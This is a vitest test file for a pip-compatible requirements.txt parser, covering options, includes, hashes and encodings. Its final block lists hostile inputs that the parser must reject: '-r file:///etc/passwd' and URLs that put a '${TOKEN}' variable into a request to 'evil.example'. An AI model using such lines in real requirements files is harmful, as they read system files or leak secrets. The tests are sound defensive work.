import { describe, expect, test } from "vitest";
import { outcome } from "../../../test/support/outcome.ts";
import { readVectors } from "../../../test/support/vectors.ts";
import { decodeRequirementsFile } from "./requirements-lines.ts";
import { loadRequirementsTxt, parseRequirementsTxt, readRequirementsLines } from "./requirements-txt.ts";
import type { RequirementsLine } from "./requirement-entry.ts";

interface FileCase {
  readonly name: string;
  readonly text?: string;
  readonly env?: Readonly<Record<string, string>>;
  readonly files?: Readonly<Record<string, string>>;
  readonly entry?: string;
  readonly result: {
    readonly lines?: readonly {
      readonly file: string;
      readonly line: number;
      readonly constraint: boolean;
      readonly editable: boolean;
      readonly requirement: string;
      readonly options: Readonly<Record<string, unknown>>;
    }[];
    readonly error?: string;
  };
}

const { cases } = readVectors<{ readonly cases: readonly FileCase[] }>("requirements-txt");

/** Every file of the vectors by its own name, since one includes another. */
const siblings = new Map(
  cases.flatMap(({ name, text }) => (text === undefined ? [] : [[name.split("/").at(-1), text]])),
);

/** pip's form of one line: its hashes by algorithm, its editable among the options. */
function asPip({ file, line, isConstraint, isEditable, text, options }: RequirementsLine): unknown {
  const hashes: Record<string, string[]> = {};
  for (const hash of options.hashes) {
    const [algorithm = "", digest = ""] = hash.split(":");
    (hashes[algorithm] ??= []).push(digest);
  }
  const named = {
    ...(options.hashes.length === 0 ? {} : { hashes }),
    ...(isEditable ? { editables: [options.editable] } : {}),
    ...(Object.keys(options.configSettings).length === 0 ? {} : { config_settings: options.configSettings }),
  };
  return { file, line, constraint: isConstraint, editable: isEditable, requirement: text, options: named };
}

test.each(cases.map((one) => [one.name, one] as const))(
  "readRequirementsLines() reads as pip does: %s",
  (_name, one) => {
    const file = one.entry ?? `${one.name.split("/").at(-1)}${one.name.startsWith("hand/") ? ".txt" : ""}`;
    const text = one.text ?? one.files?.[file] ?? "";
    const read = (path: string): string | undefined =>
      one.files === undefined ? siblings.get(path) : one.files[path];
    const source = { file, env: one.env ?? {}, read };
    const failures = ["requirement/invalid-file", "requirement/file-not-found"].map((code) => ({ code }));
    const read_ = outcome(() => readRequirementsLines(text, source).map(asPip));
    expect(one.result.error === undefined ? [one.result.lines] : failures).toContainEqual(read_);
  },
);

const parse = (
  text: string,
  files: Readonly<Record<string, string>> = {},
  env = {},
): ReturnType<typeof parseRequirementsTxt> =>
  parseRequirementsTxt(text, { file: "req.txt", env, read: (path) => files[path] });

test.each([
  ["./a", "path", "./a", []],
  ["../b[c, d]", "path", "../b", ["c", "d"]],
  ["sub\\dir", "path", "sub\\dir", []],
  ["C:\\wheels\\a-1-py3-none-any.whl", "path", "C:\\wheels\\a-1-py3-none-any.whl", []],
  ["a-1.0.tar.gz ; python_version > '3'", "path", "a-1.0.tar.gz", []],
  [".", "path", ".", []],
  ["https://example.com/a.whl#sha256=0", "url", "https://example.com/a.whl#sha256=0", []],
  ["git+https://example.com/a@main#egg=a", "url", "git+https://example.com/a@main#egg=a", []],
  ["https://example.com/a;b.zip ; os_name == 'posix'", "url", "https://example.com/a;b.zip", []],
  ["file:///a/b.whl[x]", "url", "file:///a/b.whl", ["x"]],
])("parseRequirementsTxt() takes %s for a %s", (text, kind, location, extras) => {
  const [entry] = parse(text).entries;
  expect(entry).toMatchObject({ kind, location, extras });
  expect(entry?.marker !== undefined).toBe(text.includes(" ;"));
});

test("parseRequirementsTxt() takes names with URLs for requirements", () => {
  const [entry] = parse("Foo[x] @ https://example.com/a/b.whl").entries;
  expect(entry).toMatchObject({ kind: "requirement", requirement: { name: "foo", extras: ["x"] } });
});

test("parseRequirementsTxt() keeps the marker of an editable", () => {
  const { entries, warnings } = parse("-e file:///x ; python_version>'3'\n-e ./y[z]");
  expect(entries[0]).toMatchObject({ kind: "editable", location: "file:///x" });
  expect(entries[0]?.marker).toBeDefined();
  expect(entries[1]).toMatchObject({ kind: "editable", location: "./y", extras: ["z"] });
  expect(warnings).toEqual([]);
});

test("parseRequirementsTxt() collects options with their places, also from included files", () => {
  const { options } = parse(
    [
      "-i https://a/ --extra-index-url=https://b/",
      "-r sub/more.txt",
      "--no-index",
      "-fwheels",
      "--trusted-host x --trusted-host 'y'",
      "--no-binary :all: --only-binary=a,b --prefer-binary --pre --require-hashes --use-feature=fast-deps",
    ].join("\n"),
    { "sub/more.txt": "--index-url https://c/\n--find-links ./here" },
  );
  expect(options).toMatchObject({
    indexUrl: { value: "https://c/", file: "sub/more.txt", line: 1 },
    extraIndexUrls: [{ value: "https://b/", file: "req.txt", line: 1 }],
    findLinks: [
      { value: "./here", file: "sub/more.txt" },
      { value: "wheels", line: 4 },
    ],
    noIndex: true,
    trustedHosts: [{ value: "x" }, { value: "y" }],
    noBinary: [{ value: ":all:" }],
    onlyBinary: [{ value: "a,b" }],
    preferBinary: true,
    pre: true,
    requireHashes: true,
    features: [{ value: "fast-deps" }],
  });
});

test("parseRequirementsTxt() separates constraints, wherever they are included", () => {
  const files = { "c.txt": "a<2\n-r d.txt", "d.txt": "b" };
  const { entries, constraints } = parse("a\n-c c.txt", files);
  expect(entries.map(({ text, file }) => [text, file])).toEqual([
    ["a", "req.txt"],
    ["b", "d.txt"],
  ]);
  expect(constraints.map(({ text, file, line }) => [text, file, line])).toEqual([["a<2", "c.txt", 1]]);
});

test.each([
  ["deep/req.txt", "../x.txt", "deep/../x.txt"],
  ["deep/req.txt", "./x.txt", "deep/./x.txt"],
  ["req.txt", "./x.txt", "x.txt"],
  ["./req.txt", "x.txt", "./x.txt"],
  ["/abs/req.txt", "x/../y.txt", "/abs/x/../y.txt"],
  ["-", "x.txt", "x.txt"],
  ["../req.txt", "../x.txt", "../../x.txt"],
  ["C:\\a\\req.txt", "x.txt", "C:\\a\\x.txt"],
  ["req.txt", "/etc/x.txt", "/etc/x.txt"],
  ["req.txt", "https://example.com/x.txt", "https://example.com/x.txt"],
  ["https://example.com/a/req.txt", "../x.txt", "https://example.com/x.txt"],
])("parseRequirementsTxt() looks in the folder of %s for %s", (file, included, path) => {
  const asked: string[] = [];
  parseRequirementsTxt(`-r ${included}`, { file, read: (wanted) => (asked.push(wanted), "") });
  expect(asked).toEqual([path]);
});

test("parseRequirementsTxt() fills in variables of the given environment only", () => {
  const { entries } = parse(
    "a @ https://${USER_X}:${PASS_X}@e.com/a.whl\n${NOT_THERE}/b\n${EMPTY}/c\n${HOME}/d",
    {},
    { USER_X: "u", PASS_X: "${USER_X}", EMPTY: "" },
  );
  expect(entries.map(({ text }) => text)).toEqual([
    "a @ https://u:${USER_X}@e.com/a.whl",
    "${NOT_THERE}/b",
    "${EMPTY}/c",
    "${HOME}/d",
  ]);
});

test("parseRequirementsTxt() ends a URL at a semicolon with a blank after it, and refuses names that end in `_`", () => {
  const { entries } = parse("a @ https://x.test/a-1-py3-none-any.whl; os_name == 'nt'\n");
  expect(entries[0]?.requirement).toMatchObject({ url: "https://x.test/a-1-py3-none-any.whl" });
  expect(entries[0]?.requirement?.marker).toBeDefined();
  expect(entries[0]?.text).toBe("a @ https://x.test/a-1-py3-none-any.whl ; os_name == 'nt'");
  expect(() => parse("a_\n")).toThrowError("Couldn't parse requirement in `req.txt` at position 0");
  expect(() => parse("a===\n")).toThrowError("Couldn't parse requirement");
});

test("parseRequirementsTxt() keeps what a line says before its variables are replaced", () => {
  const { entries } = parse(
    "a @ ${BASE}/a-1-py3-none-any.whl --hash=md5:" + "0".repeat(32) + "\nb\n",
    {},
    { BASE: "https://x.test" },
  );
  expect(entries).toMatchObject([
    { text: "a @ https://x.test/a-1-py3-none-any.whl", written: "a @ ${BASE}/a-1-py3-none-any.whl" },
    { text: "b" },
  ]);
  expect(entries[1]).not.toHaveProperty("written");
});

test("parseRequirementsTxt() passes over malformed hashes where a lock states its own", () => {
  const text = "a --hash=sha256:zz\n";
  expect(() => parse(text)).toThrowError(
    "Invalid hash digest length (expected 64 hexadecimal characters, found 2)",
  );
  expect(parseRequirementsTxt(text, { file: "req.txt", ignoresHashes: true }).entries).toHaveLength(1);
});

test.each([
  ["a==\\\n1.0", "a==1.0"],
  ["a \\\n  ; python_version \\\n > '3'", "a   ; python_version  > '3'"],
  ["a #c\\\nb", "a"],
  ["a\\", "a"],
  ["a\u2028b==1", "a"],
  ["   a   ", "a"],
  ["./a#b", "./a#b"],
])("parseRequirementsTxt() joins lines as pip does: %j", (text, expected) => {
  expect(parse(text).entries[0]?.text).toBe(expected);
});

test.each([
  ["a\nb c\n", { line: 2, column: 3 }, "Couldn't parse requirement in `req.txt` at position 2"],
  [
    "é\n",
    { line: 1 },
    "Unexpected 'é', expected '-c', '-e', '-r' or the start of a requirement: req.txt:1:1",
  ],
  ["# é\n\n  b==\n", { line: 3 }, "Couldn't parse requirement in `req.txt` at position 8"],
  ["a\r\n\tb==\n", { line: 2 }, "Couldn't parse requirement in `req.txt` at position 4"],
  ["a --unknown", { line: 1, column: 3 }, 'Expected `--hash`, found `"--unknown"`: req.txt:1:3'],
  ["--re x", { line: 1 }, "`--re` is ambiguous between several options"],
  ["--index-url", { line: 1 }, "`--index-url` must be followed by an argument"],
  ["--pre=yes", { line: 1 }, "`--pre` takes no value"],
  ["a --hash=sha256", { line: 1 }, "Unexpected hash (expected `<algorithm>:<hash>`): sha256"],
  ["a --hash=sha1:aa", { line: 1 }, "Unsupported hash algorithm (expected one of: `md5`, `sha256`, "],
  [
    "a --hash=sha256:aa",
    { line: 1 },
    "Invalid hash digest length (expected 64 hexadecimal characters, found 2)",
  ],
  ["a --hash 'sha256:aa", { line: 1 }, "a quotation mark is not closed"],
  ["-x", { line: 1 }, "Unexpected '-', expected '-c', '-e', '-r' or the start of a requirement: req.txt:1:1"],
  ["a \\\n --config-settings x", { line: 1 }, "`--config-settings` needs the form `KEY=VALUE`"],
  ["./a ; nonsense", { line: 1 }, "Couldn't parse requirement in `req.txt` at position 0"],
])("parseRequirementsTxt() points at the place of a mistake: %j", (text, details, message) => {
  expect(() => parse(text)).toThrowError(
    expect.objectContaining({
      code: "requirement/invalid-file",
      message: expect.stringContaining(message),
      details: expect.objectContaining({ file: "req.txt", column: expect.any(Number), ...details }),
    }),
  );
});

test("parseRequirementsTxt() names the file that a missing one is included by", () => {
  expect(() => parse("a\n-c nope.txt")).toThrowError(
    expect.objectContaining({
      code: "requirement/file-not-found",
      message: "Error parsing included file in `req.txt` at position 2",
      details: { file: "nope.txt", kind: "constraints", includedBy: "req.txt", line: 2 },
      cause: expect.objectContaining({ message: "File not found: nope.txt" }),
    }),
  );
});

test("parseRequirementsTxt() finds cycles by the file, whatever it is called", () => {
  expect(() => parse("-r sub/../b.txt", { "sub/../b.txt": "-r ./req.txt" })).toThrowError(
    "`req.txt` includes itself",
  );
});

test("parseRequirementsTxt() stays bounded when files include one another twice", () => {
  const read = (path: string): string => {
    const next = Number(path.slice(1)) + 1;
    return `-r f${next}\n-r f${next}\n`;
  };
  const atDepth = (path: string): string => (Number(path.slice(1)) > 40 ? "a" : read(path));
  expect(() => parseRequirementsTxt(read("f0"), { file: "f0", read: atDepth })).toThrowError("too often");
});

// Promise: untrusted input cannot make a command hang
// Attack: a requirements file, small when compressed, has millions of lines; or one of many lines is included again and again
test("refuses more lines than any file has, in one file or in several", () => {
  const half = "a\n".repeat(25_000);
  expect(parseRequirementsTxt(`${"# note\n\n".repeat(50_000)}a\n`, { file: "notes" }).entries).toHaveLength(
    1,
  );
  expect(parseRequirementsTxt(half, { file: "half" }).entries).toHaveLength(25_000);
  expect(() => parseRequirementsTxt(half.repeat(3), { file: "many" })).toThrow("more than 50000 lines");
  const twice = "-r half\n-r half\n";
  expect(() => parseRequirementsTxt(twice, { file: "twice", read: () => half })).toThrow(
    "more than 50000 lines",
  );
});

test("parseRequirementsTxt() keeps --config-settings per requirement and warns about what has no effect", () => {
  const { entries, warnings } = parse(
    `a -C x=1 --config-settings y=2 -Cx=3\n--hash=md5:${"0".repeat(32)}\nb --hash=md5:${"1".repeat(32)} trailing`,
  );
  expect(entries[0]?.configSettings).toEqual({ x: ["1", "3"], y: "2" });
  expect(warnings).toEqual([
    "Ignoring `--hash` without a requirement in `req.txt`, line 2",
    "Ignoring what follows the options in `req.txt`, line 3",
  ]);
});

// Promise: of warnings whose number others choose, only the first few are shown
// Attack: a requirements file from the network has very many lines with something that has no effect
test("parseRequirementsTxt() warns of the first of very many lines", () => {
  const { warnings } = parse(`--hash=md5:${"0".repeat(32)}\n`.repeat(500));
  expect(warnings).toHaveLength(21);
  expect(warnings.at(-1)).toBe("Ignoring 480 more such parts of `req.txt`");
});

test("loadRequirementsTxt() waits for what it includes", async () => {
  const { entries } = await loadRequirementsTxt("-r https://example.com/r.txt", {
    file: "req.txt",
    read: async (path) =>
      Promise.resolve(path === "https://example.com/r.txt" ? "-r s.txt" : Buffer.from("a")),
  });
  expect(entries).toMatchObject([{ text: "a", file: "https://example.com/s.txt" }]);
});

test.each([
  ["UTF-8 with mark", Buffer.from("\ufeffé")],
  ["UTF-16 LE", Buffer.from("\ufeffé", "utf16le")],
  ["UTF-16 BE", Buffer.from([0xfe, 0xff, 0x00, 0xe9])],
  ["UTF-32 LE", Buffer.from([0xff, 0xfe, 0, 0, 0xe9, 0, 0, 0])],
  ["UTF-32 BE", Buffer.from([0, 0, 0xfe, 0xff, 0, 0, 0, 0xe9])],
  ["UTF-8", Buffer.from("é")],
])("decodeRequirementsFile() reads %s", (_name, bytes) => {
  expect(decodeRequirementsFile(bytes, "req.txt")).toBe("é");
});

test("decodeRequirementsFile() believes a coding line", () => {
  expect(
    decodeRequirementsFile(Buffer.from("#\n# vim: set fileencoding=cp1251 :\n\xe9", "latin1"), "req.txt"),
  ).toContain("й");
  expect(
    decodeRequirementsFile(Buffer.from("# -*- coding: latin-1 -*-\n\u00e9", "latin1"), "req.txt"),
  ).toContain("é");
  expect(() => decodeRequirementsFile(Buffer.from([0xe9]), "req.txt")).toThrowError("is not in UTF-8");
  expect(() => decodeRequirementsFile(Buffer.from("# coding: klingon\na"), "req.txt")).toThrowError(
    "is not in KLINGON",
  );
});

describe("a requirements file from the network", () => {
  const URL_OF_FILE = "https://index.example/requirements.txt";
  const read = (text: string): unknown =>
    parseRequirementsTxt(text, { file: URL_OF_FILE, env: { TOKEN: "secret" }, read: () => "included" });

  // Promise: a requirements file from the network reaches no file, folder or variable of this machine
  // Attack: it includes local files, names local folders, or puts variables into a URL of its choice
  test.each([
    ["-r file:///etc/passwd", "includes the local file"],
    ["-c file:///srv/constraints.txt", "includes the local file"],
    ["--find-links /srv/wheels", "names the local folder"],
    ["--find-links file:///srv/wheels", "names the local folder"],
    ["--index-url file:///srv/simple", "names the local folder"],
    ["--extra-index-url ../simple", "names the local folder"],
    [
      "flask @ https://evil.example/${TOKEN}/flask-1-py3-none-any.whl",
      "uses the environment variable `${TOKEN}`",
    ],
    ["--index-url https://evil.example/${TOKEN}/simple", "uses the environment variable"],
  ])("must not say `%s`", (line, reason) => {
    expect(() => read(`flask\n${line}\n`)).toThrow(
      `Cannot understand \`${URL_OF_FILE}\`, line 2: a file from the network cannot be used that ${reason}`,
    );
  });

  test("may name what is on the network, and say nothing of variables in comments", () => {
    expect(
      read(
        "-r more.txt\n-i https://a.example/simple\nflask @ https://a.example/flask-1-py3-none-any.whl # ${TOKEN}\ngit+https://a.example/x.git\nflask[async]>=1; python_version>'3'\n",
      ),
    ).toMatchObject({ warnings: [] });
  });
});
